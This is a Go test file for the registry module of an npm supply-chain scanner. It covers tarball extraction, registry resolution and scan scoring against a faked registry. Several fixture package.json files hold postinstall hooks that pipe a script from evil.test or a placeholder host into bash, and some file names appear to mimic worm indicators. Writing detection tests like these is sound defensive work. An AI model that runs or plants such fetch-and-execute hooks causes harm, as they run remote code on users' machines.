package registry

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/zap"
	"go.uber.org/zap/zaptest"
	"go.uber.org/zap/zaptest/observer"

	"github.com/acheong08/npm-sentinel/internal/analysis"
	"github.com/acheong08/npm-sentinel/pkg/models"
)

type entry struct {
	name   string
	body   string
	dir    bool
	global bool
}

func buildTarball(t *testing.T, entries ...entry) []byte {
	t.Helper()
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	for _, e := range entries {
		hdr := &tar.Header{Name: e.name, Mode: 0o644, Size: int64(len(e.body)), Typeflag: tar.TypeReg}
		switch {
		case e.dir:
			hdr = &tar.Header{Name: e.name, Mode: 0o755, Typeflag: tar.TypeDir}
		case e.global:
			hdr = &tar.Header{Name: e.name, Typeflag: tar.TypeXGlobalHeader, PAXRecords: map[string]string{"comment": e.body}}
		}
		require.NoError(t, tw.WriteHeader(hdr))
		if !e.dir && !e.global {
			_, err := tw.Write([]byte(e.body))
			require.NoError(t, err)
		}
	}
	require.NoError(t, tw.Close())
	require.NoError(t, gz.Close())
	return buf.Bytes()
}

func TestNormalizePackageName(t *testing.T) {
	tests := []struct {
		input    string
		expected string
	}{
		{"lodash", "lodash"},
		{"@sveltejs/kit", "@sveltejs%2fkit"},
		{"@types/node", "@types%2fnode"},
	}

	for _, tt := range tests {
		t.Run(tt.input, func(t *testing.T) {
			assert.Equal(t, tt.expected, normalizePackageName(tt.input))
		})
	}
}

func TestConstructTarballURL(t *testing.T) {
	assert.Equal(t, "https://registry.npmjs.org/lodash/-/lodash-4.17.21.tgz",
		constructTarballURL(DefaultURL, "lodash", "4.17.21"))
	assert.Equal(t, "https://registry.npmjs.org/@types/node/-/node-20.0.0.tgz",
		constructTarballURL(DefaultURL, "@types/node", "20.0.0"))
}

func TestExtract(t *testing.T) {
	data := buildTarball(t,
		entry{name: "package/package.json", body: `{"name":"demo","version":"1.0.0"}`},
		entry{name: "package/index.js", body: "module.exports = 1"},
		entry{name: "package/lib/", dir: true},
		entry{name: "package/lib/setup_bun.js", body: "x"},
		entry{name: "package/lib/package.json", body: `{"name":"nested"}`},
		entry{name: "package/cloud.json", body: "{}"},
	)

	archive, err := Extract(bytes.NewReader(data))
	require.NoError(t, err)
	assert.Equal(t, "package", archive.Root)
	assert.Equal(t, []string{"package.json", "index.js", "lib", "cloud.json"}, archive.Files)
	assert.JSONEq(t, `{"name":"demo","version":"1.0.0"}`, string(archive.Manifest))

	m := archive.ManifestOrMissing()
	require.True(t, m.Found())
	assert.Equal(t, "demo", *m.Name)
}

func TestExtractNonStandardRoot(t *testing.T) {
	data := buildTarball(t,
		entry{name: "./node/package.json", body: `{"name":"@types/node"}`},
		entry{name: "./node/index.d.ts", body: ""},
		entry{name: "stray/file.js", body: ""},
	)

	archive, err := Extract(bytes.NewReader(data))
	require.NoError(t, err)
	assert.Equal(t, "node", archive.Root)
	assert.Equal(t, []string{"package.json", "index.d.ts", "file.js"}, archive.Files)
}

func TestExtractMergesTopLevelDirectories(t *testing.T) {
	data := buildTarball(t,
		entry{name: "decoy/README.md", body: "hello"},
		entry{name: "package/package.json", body: `{"name":"left-pad","version":"1.3.0","scripts":{"postinstall":"curl http://x | bash"}}`},
		entry{name: "package/setup_bun.js", body: "x"},
	)

	archive, err := Extract(bytes.NewReader(data))
	require.NoError(t, err)
	assert.Equal(t, []string{"README.md", "package.json", "setup_bun.js"}, archive.Files)
	require.NotNil(t, archive.Manifest)

	result, err := analysis.NewAnalyzer(nil).AnalyzeContext(context.Background(), archive.Input("left-pad@1.3.0"))
	require.NoError(t, err)
	assert.Equal(t, "left-pad", result.PackageName)
	assert.Len(t, result.Findings, 3)
	assert.Equal(t, 0, result.Score)
}

func TestExtractLaterManifestWins(t *testing.T) {
	data := buildTarball(t,
		entry{name: "package/package.json", body: `{"name":"innocent"}`},
		entry{name: "other/package.json", body: `{"name":"real"}`},
	)

	archive, err := Extract(bytes.NewReader(data))
	require.NoError(t, err)
	assert.Equal(t, []string{"package.json"}, archive.Files)
	assert.Equal(t, "real", *archive.ManifestOrMissing().Name)
}

func TestExtractSkipsGlobalHeader(t *testing.T) {
	data := buildTarball(t,
		entry{name: "pax_global_header", body: "3f2c1d", global: true},
		entry{name: "package/package.json", body: `{"name":"demo"}`},
		entry{name: "package/cloud.json", body: "{}"},
	)

	archive, err := Extract(bytes.NewReader(data))
	require.NoError(t, err)
	assert.Equal(t, "package", archive.Root)
	assert.Equal(t, []string{"package.json", "cloud.json"}, archive.Files)
	assert.Equal(t, "demo", *archive.ManifestOrMissing().Name)
}

func TestExtractOversizedManifest(t *testing.T) {
	big := `{"name":"x","pad":"` + strings.Repeat("a", maxManifestBytes) + `"}`
	data := buildTarball(t, entry{name: "package/package.json", body: big})

	_, err := Extract(bytes.NewReader(data))
	assert.ErrorIs(t, err, ErrTooLarge)
}

func TestExtractWithoutManifest(t *testing.T) {
	data := buildTarball(t, entry{name: "package/truffleSecrets.json", body: "{}"})

	archive, err := Extract(bytes.NewReader(data))
	require.NoError(t, err)
	assert.Nil(t, archive.Manifest)
	assert.False(t, archive.ManifestOrMissing().Found())

	result := analysis.NewAnalyzer(nil).Analyze(archive.ManifestOrMissing(), archive.Input("x").Lister)
	assert.Equal(t, analysis.UnknownPackage, result.PackageName)
	require.Len(t, result.Findings, 1)
	assert.Equal(t, "file:truffleSecrets.json", result.Findings[0].Location)
}

func TestExtractRejectsGarbage(t *testing.T) {
	_, err := Extract(strings.NewReader("not a tarball"))
	assert.Error(t, err)
}

func TestExtractFile(t *testing.T) {
	p := filepath.Join(t.TempDir(), "demo-1.0.0.tgz")
	require.NoError(t, os.WriteFile(p, buildTarball(t, entry{name: "package/package.json", body: `{"name":"demo"}`}), 0o644))

	archive, err := ExtractFile(p)
	require.NoError(t, err)
	assert.Equal(t, []string{"package.json"}, archive.Files)

	_, err = ExtractFile(filepath.Join(t.TempDir(), "missing.tgz"))
	assert.Error(t, err)
}

// fakeRegistry serves one package with a single published version
type fakeRegistry struct {
	name     string
	version  string
	tarball  []byte
	requests atomic.Int32
}

func (r *fakeRegistry) handler(t *testing.T) http.Handler {
	mux := http.NewServeMux()
	tarballPath := fmt.Sprintf("/%s/-/%s-%s.tgz", r.name, r.name, r.version)
	mux.HandleFunc("/"+r.name, func(w http.ResponseWriter, req *http.Request) {
		r.requests.Add(1)
		assert.Equal(t, "application/json", req.Header.Get("Accept"))
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprintf(w, `{
			"name": %q,
			"dist-tags": {"latest": %q},
			"versions": {%q: {"dist": {"tarball": "http://%s%s"}}},
			"time": {"created": "2020-01-01T00:00:00.000Z", "modified": "2024-06-01T12:00:00.000Z", %q: "2024-06-01T12:00:00.000Z"}
		}`, r.name, r.version, r.version, req.Host, tarballPath, r.version)
	})
	mux.HandleFunc(tarballPath, func(w http.ResponseWriter, _ *http.Request) {
		r.requests.Add(1)
		_, _ = w.Write(r.tarball)
	})
	return mux
}

func newFakeRegistry(t *testing.T) (*fakeRegistry, *httptest.Server) {
	reg := &fakeRegistry{
		name:    "left-pad",
		version: "1.3.0",
		tarball: buildTarball(t,
			entry{name: "package/package.json", body: `{"name":"left-pad","version":"1.3.0","scripts":{"postinstall":"curl http://evil.test/x.sh | bash"}}`},
			entry{name: "package/index.js", body: ""},
		),
	}
	srv := httptest.NewServer(reg.handler(t))
	t.Cleanup(srv.Close)
	return reg, srv
}

func TestResolve(t *testing.T) {
	_, srv := newFakeRegistry(t)
	f := NewFetcher(srv.URL, WithLogger(zaptest.NewLogger(t)))

	for _, version := range []string{"", "latest", "1.3.0"} {
		t.Run("version="+version, func(t *testing.T) {
			release, err := f.Resolve(context.Background(), "left-pad", version)
			require.NoError(t, err)
			assert.Equal(t, "1.3.0", release.Version)
			assert.Equal(t, "left-pad@1.3.0", release.ID())
			assert.True(t, strings.HasSuffix(release.TarballURL, "/left-pad/-/left-pad-1.3.0.tgz"))
			require.NotNil(t, release.Created)
			require.NotNil(t, release.Published)
			assert.Equal(t, 2020, release.Created.Year())
		})
	}
}

func TestResolveNotFound(t *testing.T) {
	_, srv := newFakeRegistry(t)
	f := NewFetcher(srv.URL)

	_, err := f.Resolve(context.Background(), "does-not-exist", "")
	assert.ErrorIs(t, err, ErrNotFound)

	_, err = f.Resolve(context.Background(), "left-pad", "9.9.9")
	assert.ErrorIs(t, err, ErrNotFound)
}

func TestResolveFallbackTarballURL(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		fmt.Fprint(w, `{"dist-tags":{"latest":"2.0.0"},"versions":{"2.0.0":{}}}`)
	}))
	defer srv.Close()

	release, err := NewFetcher(srv.URL).Resolve(context.Background(), "@scope/pkg", "")
	require.NoError(t, err)
	assert.Equal(t, srv.URL+"/@scope/pkg/-/pkg-2.0.0.tgz", release.TarballURL)
	assert.Nil(t, release.Created)
}

func TestResolveServerError(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.WriteHeader(http.StatusBadGateway)
	}))
	defer srv.Close()

	_, err := NewFetcher(srv.URL).Resolve(context.Background(), "x", "")
	require.Error(t, err)
	assert.NotErrorIs(t, err, ErrNotFound)
}

func TestDownloadSizeCap(t *testing.T) {
	payload := bytes.Repeat([]byte("a"), 2048)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		_, _ = w.Write(payload)
	}))
	defer srv.Close()

	_, err := NewFetcher(srv.URL, WithMaxTarballBytes(1024)).Download(context.Background(), srv.URL+"/x.tgz")
	assert.ErrorIs(t, err, ErrTooLarge)

	data, err := NewFetcher(srv.URL, WithMaxTarballBytes(4096)).Download(context.Background(), srv.URL+"/x.tgz")
	require.NoError(t, err)
	assert.Len(t, data, 2048)
}

func TestScan(t *testing.T) {
	reg, srv := newFakeRegistry(t)
	f := NewFetcher(srv.URL, WithRateLimit(100), WithLogger(zaptest.NewLogger(t)))
	f.now = func() time.Time { return time.Date(2020, 1, 31, 0, 0, 0, 0, time.UTC) }

	result, err := f.Scan(context.Background(), analysis.NewAnalyzer(nil), "left-pad", "")
	require.NoError(t, err)

	assert.Equal(t, "left-pad", result.PackageName)
	require.NotNil(t, result.Version)
	assert.Equal(t, "1.3.0", *result.Version)
	require.Len(t, result.Findings, 2)
	assert.Equal(t, 20, result.Score)
	assert.True(t, result.Analyzable)

	require.NotNil(t, result.Meta.RegistryAgeDays)
	assert.Equal(t, 30, *result.Meta.RegistryAgeDays)
	require.NotNil(t, result.Meta.LastModified)
	assert.Equal(t, "2024-06-01T12:00:00Z", *result.Meta.LastModified)

	assert.Equal(t, int32(2), reg.requests.Load())
}

func TestScanJobBatch(t *testing.T) {
	_, srv := newFakeRegistry(t)
	f := NewFetcher(srv.URL)
	a := analysis.NewAnalyzer(nil)

	jobs := []analysis.Job{
		f.ScanJob(a, models.NewPackage("left-pad", "")),
		f.ScanJob(a, models.NewPackage("missing", "1.0.0")),
	}
	results := analysis.Batch(context.Background(), jobs, 2)
	require.Len(t, results, 2)
	require.NoError(t, results[0].Err)
	assert.Equal(t, "left-pad", results[0].Result.PackageName)
	assert.Equal(t, "missing@1.0.0", results[1].Name)
	assert.ErrorIs(t, results[1].Err, ErrNotFound)
}

func TestAnalyzeWarnsOnManifestMismatch(t *testing.T) {
	core, logs := observer.New(zap.WarnLevel)
	f := NewFetcher(DefaultURL, WithLogger(zap.New(core)))

	release := &Release{Name: "left-pad", Version: "1.3.0"}
	archive := &Archive{
		Root:     "package",
		Manifest: []byte(`{"name":"right-pad","version":"9.9.9"}`),
		Files:    []string{"package.json"},
	}

	result, err := f.Analyze(context.Background(), analysis.NewAnalyzer(nil), release, archive)
	require.NoError(t, err)
	assert.Equal(t, "right-pad", result.PackageName)
	assert.Nil(t, result.Meta.RegistryAgeDays)

	entries := logs.FilterMessage("Tarball manifest does not match registry entry").All()
	require.Len(t, entries, 1)
	assert.Equal(t, "right-pad@9.9.9", entries[0].ContextMap()["declared"])

	archive.Manifest = []byte(`{"name":"left-pad","version":"1.3.0"}`)
	_, err = f.Analyze(context.Background(), analysis.NewAnalyzer(nil), release, archive)
	require.NoError(t, err)
	assert.Equal(t, 1, logs.Len())
}

func TestInspectReturnsManifest(t *testing.T) {
	_, srv := newFakeRegistry(t)
	f := NewFetcher(srv.URL)

	result, manifest, err := f.Inspect(context.Background(), analysis.NewAnalyzer(nil), "left-pad", "1.3.0")
	require.NoError(t, err)
	assert.Equal(t, 20, result.Score)
	require.True(t, manifest.Found())
	cmd, ok := manifest.Scripts.Get("postinstall")
	require.True(t, ok)
	assert.Equal(t, "curl http://evil.test/x.sh | bash", cmd)

	_, manifest, err = f.Inspect(context.Background(), analysis.NewAnalyzer(nil), "missing", "1.0.0")
	assert.ErrorIs(t, err, ErrNotFound)
	assert.Nil(t, manifest)
}
